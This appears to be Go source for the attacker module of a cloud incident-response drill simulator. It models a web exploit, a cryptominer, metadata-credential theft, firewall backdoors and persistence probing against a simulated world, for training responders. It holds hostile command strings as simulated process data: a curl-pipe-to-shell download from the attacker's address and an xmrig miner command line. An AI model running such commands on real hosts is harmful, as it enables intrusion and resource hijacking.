package attacker

import (
	"context"
	"fmt"

	"github.com/firedrill-ir/firedrill/cloudsim/simcloud"
	"github.com/firedrill-ir/firedrill/cloudsim/world"
)

// The techniques here are written once and registered per cloud (see the
// per-cloud files): their cloud-specific parts are the cloud's simcloud.Host
// (on-host effects through the cloud's own network and metadata models) and
// the SDK calls a registration passes in.

const (
	correlationTag   = "firedrill:correlation-id"
	attackerFlowName = "attacker"
	// hostCaller attributes the random draws of the attacker's on-host
	// effects (flows, metadata-service credentials) to the attacker's own
	// streams.
	hostCaller = "host/attacker"
)

// exploitWebApp gains code execution on a VM of a group through its public
// web service, leaving an interactive web-shell session (an inbound
// connection the responder's isolation must cut). defaultTarget is the VM
// the cloud's scale-in removes first ("oldest" or "newest"), whose evidence
// the scaling race is about.
func exploitWebApp(cloud, id, defaultTarget string) *Technique {
	return &Technique{
		ID: id, ATTACK: "T1190", Name: "Exploit Public-Facing Application", Cloud: cloud,
		Params: []ParamSpec{
			{Name: "group", Kind: KindString, Doc: "VM group whose VM is attacked (default: the environment's web group)"},
			{Name: "target", Kind: KindString, Default: defaultTarget,
				Doc: "oldest, newest (" + defaultTarget + " is the first scale-in candidate), or a VM id"},
			{Name: "port", Kind: KindInt, Default: "443", Doc: "the exposed service port"},
			{Name: "vulnerability", Kind: KindString, Default: "CVE-2023-46604", Doc: "what is exploited, for the record"},
		},
		Run: func(ctx context.Context, env *Env, p Params) error {
			vm, err := exploitLocked(env, cloud, p)
			return env.Record(Action{Technique: id, Operation: "http:exploit", Resource: vm, Cloud: cloud, Credential: "none",
				Detail: map[string]string{"port": p.String("port"), "vulnerability": p.String("vulnerability")}}, err)
		},
	}
}

// exploitLocked picks the VM, opens the web-shell connection through the
// cloud's network model and plants the shell; the attacker learns the VM's
// place in the network from there.
func exploitLocked(env *Env, cloud string, p Params) (string, error) {
	t, err := env.Target(cloud)
	if err != nil {
		return "", err
	}
	h, err := host(cloud)
	if err != nil {
		return "", err
	}
	group := p.String("group")
	if group == "" {
		group = t.Prop("vm_group")
	}
	w := env.World
	w.LockAs(hostCaller)
	defer w.Unlock()
	vm, err := pickTargetLocked(w, h, t.Site, group, p.String("target"))
	if err != nil {
		return vm, err
	}
	port := p.Int("port")
	f, err := h.OpenFlowLocked(w, vm, world.FlowSpec{Direction: "ingress", Protocol: "tcp", LocalPort: port,
		RemoteIP: env.SourceIP, Actor: attackerFlowName})
	if err != nil {
		return vm, err
	}
	inst := w.Instances.Lookup(vm)
	inst.Processes = append(inst.Processes, world.Process{PID: 31337, User: "app",
		Command: "/bin/sh -c curl -s http://" + env.SourceIP + "/x.sh | sh", CPU: 0.2})
	hold := env.State.In(cloud)
	hold.Foothold, hold.Facts = vm, h.FactsLocked(w, vm, env.SourceIP, port)
	env.State.Gain(&Path{ID: cloud + "/network_flow/web-shell", Kind: NetworkFlow, Cloud: cloud, Credential: "none", Resource: vm,
		Description: fmt.Sprintf("web shell on %s through the exploited service on port %d", vm, port),
		Probe:       (&flowPath{cloud: cloud, vm: vm, flow: f.ID}).probe})
	return vm, nil
}

// pickTargetLocked chooses the attacked VM: the oldest or newest member of
// the group, or a VM named by id.
func pickTargetLocked(w *world.World, h simcloud.Host, site simcloud.Site, group, target string) (string, error) {
	switch target {
	case "oldest", "newest":
		members, err := h.GroupMembersLocked(w, site, group)
		if err != nil {
			return "", err
		}
		if len(members) == 0 {
			return "", fmt.Errorf("group %q has no running member", group)
		}
		if target == "oldest" {
			return members[0], nil
		}
		return members[len(members)-1], nil
	}
	if _, ok := w.Instances.Get(target); !ok || simcloud.CloudOfLocked(w, target) != site.Cloud {
		return "", fmt.Errorf("%s VM %q does not exist", site.Cloud, target)
	}
	return target, nil
}

// cryptoMiner starts xmrig on the foothold: CPU pinned near 100% and a
// stateful outbound stratum connection to a pool domain, the signals the
// cloud's CPU alarm and its threat detector key on.
func cryptoMiner(cloud, id string) *Technique {
	return &Technique{
		ID: id, ATTACK: "T1496", Name: "Resource Hijacking (cryptominer)", Cloud: cloud,
		Params: []ParamSpec{
			{Name: "pool_domain", Kind: KindString, Default: "pool.minexmr.com"},
			{Name: "pool_ip", Kind: KindString, Default: "192.0.2.77"},
			{Name: "pool_port", Kind: KindInt, Default: "4444"},
			{Name: "cpu", Kind: KindInt, Default: "99", Doc: "CPU utilisation the miner drives, percent"},
			{Name: "process", Kind: KindString, Default: "xmrig"},
		},
		Run: func(ctx context.Context, env *Env, p Params) error {
			pool := fmt.Sprintf("%s:%d", p.String("pool_domain"), p.Int("pool_port"))
			vm := env.State.In(cloud).Foothold
			err := startMinerLocked(env, cloud, vm, p, pool)
			return env.Record(Action{Technique: id, Operation: "pool:connect", Resource: vm, Cloud: cloud, Credential: "host",
				Detail: map[string]string{"pool": pool, "process": p.String("process")}}, err)
		},
	}
}

// startMinerLocked runs the miner on vm and connects it to the pool. The
// pool connection is an access path from the moment the attacker has a
// foothold, even if it cannot connect yet: keep-access keeps trying.
func startMinerLocked(env *Env, cloud, vm string, p Params, pool string) error {
	h, err := host(cloud)
	if err != nil {
		return err
	}
	w := env.World
	w.LockAs(hostCaller)
	defer w.Unlock()
	inst, ok := w.Instances.Get(vm)
	if vm == "" || !ok {
		return fmt.Errorf("no foothold: the exploit step did not succeed")
	}
	fp := &flowPath{cloud: cloud, vm: vm, reconnect: true, detail: map[string]string{"pool": pool},
		spec: world.FlowSpec{Direction: "egress", Protocol: "tcp", RemoteIP: p.String("pool_ip"),
			RemotePort: p.Int("pool_port"), Domain: p.String("pool_domain"), Actor: attackerFlowName}}
	env.State.Gain(&Path{ID: cloud + "/network_flow/pool", Kind: NetworkFlow, Cloud: cloud, Credential: "host", Resource: vm,
		Description: "the miner's connection from " + vm + " to the pool " + pool, Probe: fp.probe})
	if inst.State != world.StateRunning {
		return fmt.Errorf("foothold %s is %s", vm, inst.State)
	}
	cpu := float64(p.Int("cpu"))
	inst.Processes = append(inst.Processes, world.Process{PID: 31415, User: "app",
		Command: fmt.Sprintf("/tmp/.cache/%s -o %s --donate-level 0 -k", p.String("process"), pool), CPU: cpu})
	w.SetCPULocked(inst, w.Now(), cpu)
	f, err := h.OpenFlowLocked(w, vm, fp.spec)
	if err == nil {
		fp.flow = f.ID
	}
	return err
}

// flowPath is a connection the attacker keeps on a VM. A reconnecting one
// (the miner's) is checked from the host every keep-access round, reopened
// through the cloud's current network rules when down, and recorded; the
// others (a web shell) and every flow at the final check are only looked
// at.
type flowPath struct {
	cloud, vm, flow string
	reconnect       bool
	spec            world.FlowSpec
	detail          map[string]string
}

func (f *flowPath) probe(_ context.Context, env *Env, r Round) Outcome {
	h, err := host(f.cloud)
	if err != nil {
		return outcome(err)
	}
	w := env.World
	w.LockAs(hostCaller)
	up := false
	for _, fl := range w.ActiveFlowsLocked(f.vm) {
		if fl.ID == f.flow {
			up = true
		}
	}
	if !f.reconnect || r.Final {
		w.Unlock()
		if up {
			return Outcome{Open: true}
		}
		return Outcome{Code: "FlowEnded"}
	}
	op := "pool:keepalive"
	if !up {
		op = "pool:reconnect"
		var fl *world.Flow
		if fl, err = h.OpenFlowLocked(w, f.vm, f.spec); err == nil {
			f.flow = fl.ID
		}
	}
	d := map[string]string{"flow": f.flow}
	for k, v := range f.detail {
		d[k] = v
	}
	w.Unlock()
	return outcome(env.Record(Action{Technique: r.Technique, Operation: op, Resource: f.vm, Cloud: f.cloud, Credential: "host",
		Detail: d}, err))
}

// stealSpec is how a cloud's metadata service hands out the VM identity's
// credential and what the attacker does with it: Use is its first use from
// the attacker's address (a "whoami" about the VM it came from), Probe the
// stolen-credential path's probe.
type stealSpec struct {
	Operation, Path, Label, Description string
	Detail                              map[string]string
	Use                                 func(env *Env, ctx context.Context, technique, vm string, c *Credential) error
	Probe                               func(c *Credential) Probe
}

// vmAttack is the compromise of a web VM as each cloud registers it: the
// exploit, the miner, the theft of the VM identity's credential and the
// keep-access loop, by id, with what differs between clouds as data.
type vmAttack struct {
	Cloud                             string
	Exploit, Miner, Steal, KeepAccess string
	FirstToScaleIn                    string // "oldest" or "newest": the VM whose evidence the scaling race is about
	Metadata                          stealSpec
	KeepAccessParams                  []ParamSpec
}

// registerVMAttack registers a cloud's VM compromise and the cloud's own
// techniques.
func registerVMAttack(a vmAttack, own ...*Technique) {
	Register(append([]*Technique{exploitWebApp(a.Cloud, a.Exploit, a.FirstToScaleIn), cryptoMiner(a.Cloud, a.Miner),
		stealHostCredential(a.Cloud, a.Steal, a.Metadata), keepAccess(a.Cloud, a.KeepAccess, a.KeepAccessParams...)}, own...)...)
}

// stealHostCredential reads the VM identity's credential from the
// metadata service on the foothold and uses it at once from the attacker's
// own address: the pattern each cloud's threat detection flags. The
// credential outlives any change to the VM: only revoking its sessions,
// disabling its principal or removing its grants takes its power away.
func stealHostCredential(cloud, id string, s stealSpec) *Technique {
	return &Technique{
		ID: id, ATTACK: "T1552.005", Name: "Unsecured Credentials: Cloud Instance Metadata API", Cloud: cloud,
		Run: func(ctx context.Context, env *Env, p Params) error {
			hold := env.State.In(cloud)
			c, detail, err := stealLocked(env, cloud, hold.Foothold)
			d := map[string]string{"path": s.Path}
			for _, m := range []map[string]string{s.Detail, detail} {
				for k, v := range m {
					d[k] = v
				}
			}
			if err := env.Record(Action{Technique: id, Operation: s.Operation, Resource: hold.Foothold, Cloud: cloud,
				Credential: "host", Detail: d}, err); err != nil {
				return err
			}
			c.Label = s.Label
			hold.Hold(c)
			env.State.Gain(&Path{ID: cloud + "/stolen_credential/" + s.Label, Kind: StolenCredential, Cloud: cloud,
				Credential: s.Label, Resource: c.Principal, Description: s.Description + " of " + hold.Foothold, Probe: s.Probe(c)})
			return s.Use(env, ctx, id, hold.Foothold, c)
		},
	}
}

// stealLocked asks the foothold's metadata service for its identity's
// credential.
func stealLocked(env *Env, cloud, vm string) (*Credential, map[string]string, error) {
	if vm == "" {
		return nil, nil, fmt.Errorf("no foothold to query the metadata service from")
	}
	h, err := host(cloud)
	if err != nil {
		return nil, nil, err
	}
	env.World.LockAs(hostCaller)
	defer env.World.Unlock()
	return h.CredentialLocked(env.World, vm)
}

// hasLiveChannel reports whether any attacker connection on the VM is still
// up: with one, code on the VM can still hand the attacker fresh
// credentials.
func (e *Env) hasLiveChannel(vm string) bool {
	w := e.World
	w.LockAs(hostCaller)
	defer w.Unlock()
	for _, f := range w.ActiveFlowsLocked(vm) {
		if f.Actor == attackerFlowName {
			return true
		}
	}
	return false
}

// planted is what a cloud's backdoor call planted: the rule (its resource
// id and a name for people), the resource the call changed and the details
// of the record; done says the call's failure was already recorded.
type planted struct {
	rule, what, resource string
	detail               map[string]string
	done                 bool
}

// backdoorRule uses the stolen credential to add a network rule letting the
// attacker's address back in: a way in that survives the compromised VM
// (T1562.007, Modify Cloud Firewall), held as a backdoor_rule path. plant
// is the cloud's call.
func backdoorRule(cloud, id, op string, params []ParamSpec,
	plant func(ctx context.Context, env *Env, t *Target, hold *Holding, c *Credential, p Params) (planted, error)) *Technique {
	return &Technique{
		ID: id, ATTACK: "T1562.007", Name: "Impair Defenses: Disable or Modify Cloud Firewall", Cloud: cloud,
		Params: append([]ParamSpec{{Name: "port", Kind: KindInt, Default: "22", Doc: "port opened to the attacker"}}, params...),
		Run: func(ctx context.Context, env *Env, p Params) error {
			hold := env.State.In(cloud)
			c := hold.Credential(labelStolenToken)
			t, terr := env.Target(cloud)
			if c == nil || terr != nil {
				return env.Record(Action{Technique: id, Operation: op, Cloud: cloud}, fmt.Errorf("no stolen token"))
			}
			res, err := plant(ctx, env, t, hold, c, p)
			if res.done {
				return err
			}
			if err == nil {
				env.plantedBackdoor(cloud, res.rule, res.what, p.Int("port"))
			}
			d := map[string]string{"port": p.String("port"), "source": env.SourceIP + "/32"}
			for k, v := range res.detail {
				d[k] = v
			}
			return env.Record(Action{Technique: id, Operation: op, Resource: res.resource, Cloud: cloud, Credential: c.Label, Detail: d}, err)
		},
	}
}

// plantedBackdoor records a network rule the attacker added for itself as
// a backdoor_rule path, probed through the cloud's network model.
func (e *Env) plantedBackdoor(cloud, rule, what string, port int) {
	e.State.Gain(&Path{Kind: BackdoorRule, Cloud: cloud, Credential: "none", Resource: rule,
		Description: fmt.Sprintf("%s letting %s/32 in on port %d", what, e.SourceIP, port),
		Probe:       backdoorProbe(cloud, rule, port), ArtifactKind: "network_rule", Artifact: rule})
}

// launchedProbe looks at an instance the attacker launched, as its
// workers reporting in would: open while it runs.
func launchedProbe(id string) Probe {
	return func(_ context.Context, env *Env, _ Round) Outcome {
		w := env.World
		w.LockAs(hostCaller)
		defer w.Unlock()
		if i := w.Instances.Lookup(id); i != nil && (i.State == world.StateRunning || i.State == world.StatePending) {
			return Outcome{Open: true}
		}
		return Outcome{Code: "NotRunning"}
	}
}

// backdoorProbe asks the cloud's network model whether a new connection
// from the attacker's address would still reach port through the rule.
func backdoorProbe(cloud, rule string, port int) Probe {
	return func(_ context.Context, env *Env, _ Round) Outcome {
		h, err := host(cloud)
		if err != nil {
			return outcome(err)
		}
		w := env.World
		w.LockAs(hostCaller)
		defer w.Unlock()
		open, _, code := h.AdmitsLocked(w, rule, env.SourceIP, port)
		return Outcome{Open: open, Code: code}
	}
}

// keepAccess is the attacker coming back until the drill ends and trying
// every access path it holds in the cloud: every minute (the probe cadence,
// which effective containment is measured at) while any way in works, and
// backing off, doubling the wait up to max_every, once a round finds every
// way cut (an attacker shut out retries less; the final check still tries
// everything at the end). Every answer a path records is an attack.action,
// so after containment the timeline shows exactly what the responder did
// and did not cut. extra are the parameters the cloud's probes read.
func keepAccess(cloud, id string, extra ...ParamSpec) *Technique {
	return &Technique{
		ID: id, ATTACK: "T1078.004", Name: "Valid Accounts: Cloud Accounts", Cloud: cloud, KeepsAccess: true,
		Params: append([]ParamSpec{
			{Name: "every", Kind: KindDuration, Default: "1m", Doc: "the probe cadence while any way in works"},
			{Name: "max_every", Kind: KindDuration, Default: "16m", Doc: "the longest wait once every way in is cut"},
		}, extra...),
		Run: func(ctx context.Context, env *Env, p Params) error {
			every, most := p.Duration("every"), p.Duration("max_every")
			if every <= 0 || most < every {
				return fmt.Errorf("keep-access: every must be positive and max_every at least every")
			}
			wait := every
			for {
				env.ProbePaths(ctx, cloud, Round{Technique: id, Params: p})
				if env.State.AllCut(cloud) {
					wait = min(2*wait, most)
				} else {
					wait = every
				}
				if env.End.IsZero() || !env.Clock.Now().Add(wait).Before(env.End) {
					return nil
				}
				if err := env.Clock.Sleep(ctx, wait); err != nil {
					return fmt.Errorf("keep-access: waiting for the next round: %w", err)
				}
			}
		},
	}
}

// FinalCheck tries every path the attacker holds in a cloud one last time,
// as the cloud's keep-access technique would with its defaults but with
// each probe's final form, and reports them: the drill's containment check.
func (e *Env) FinalCheck(ctx context.Context, cloud string) []Report {
	r := Round{Final: true}
	if t, ok := Builtin().KeepAccess(cloud); ok {
		r.Technique, r.Params = t.ID, t.Resolve(nil)
	}
	e.ProbePaths(ctx, cloud, r)
	reports := e.State.Reports(cloud)
	h, err := host(cloud)
	if err != nil {
		return reports
	}
	w := e.World
	w.LockAs(hostCaller)
	defer w.Unlock()
	for i := range reports {
		if r := &reports[i]; r.Artifact != "" {
			present, cost := h.ArtifactLocked(w, r.ArtifactKind, r.Artifact)
			r.Present, r.CostUSD = &present, cost
		}
	}
	return reports
}

// ActiveFlowsIn counts the attacker's connections still up in one cloud.
func (e *Env) ActiveFlowsIn(cloud string) (n int, ids []string) {
	w := e.World
	w.LockAs(hostCaller)
	defer w.Unlock()
	for _, f := range w.Flows {
		if f.Actor == attackerFlowName && f.Active() && simcloud.CloudOfLocked(w, f.Instance) == cloud {
			n++
			ids = append(ids, f.ID)
		}
	}
	return n, ids
}

// finalDetail marks the calls of the final check.
func finalDetail(r Round, d map[string]string) map[string]string {
	if !r.Final {
		return d
	}
	out := map[string]string{"check": "final"}
	for k, v := range d {
		out[k] = v
	}
	return out
}
